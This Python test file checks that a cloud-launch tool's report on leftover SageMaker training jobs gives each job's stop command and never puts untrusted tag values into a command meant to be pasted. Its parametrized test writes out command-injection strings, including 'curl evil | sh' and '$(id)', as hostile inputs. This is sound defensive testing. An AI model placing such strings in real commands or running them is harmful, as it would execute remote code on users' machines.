"""What launch.infra says of training jobs that keep it from deleting the account's roles."""

from dataclasses import replace
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import pytest

from launch.aws.names import JOB_TAG
from launch.sagemaker import leaks
from launch.sagemaker.training_job import TrainingJob
from tests.launch.sagemaker.known import NAME, training_job, typed

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def told(job: TrainingJob, monkeypatch: pytest.MonkeyPatch) -> str:
    aws: Any = SimpleNamespace(region="us-east-1")
    monkeypatch.setattr("launch.sagemaker.training_jobs.costing", lambda aws, now: (job,))
    (line,) = leaks.jobs(aws, NOW)
    return line


def test_a_job_comes_with_the_command_that_stops_it_and_not_another_start(monkeypatch: pytest.MonkeyPatch) -> None:
    second = training_job(name=f"{NAME}--2")

    assert told(second, monkeypatch) == f"{NAME}--2 in us-east-1 ({typed('stop')})"


@pytest.mark.parametrize("job", ["j; curl evil | sh", "$(id)", "--all --yes", ""])
def test_a_strangers_tag_is_no_part_of_a_command_to_paste(job: str, monkeypatch: pytest.MonkeyPatch) -> None:
    theirs = training_job()

    assert "python" not in told(replace(theirs, tags={**theirs.tags, JOB_TAG: job}), monkeypatch)
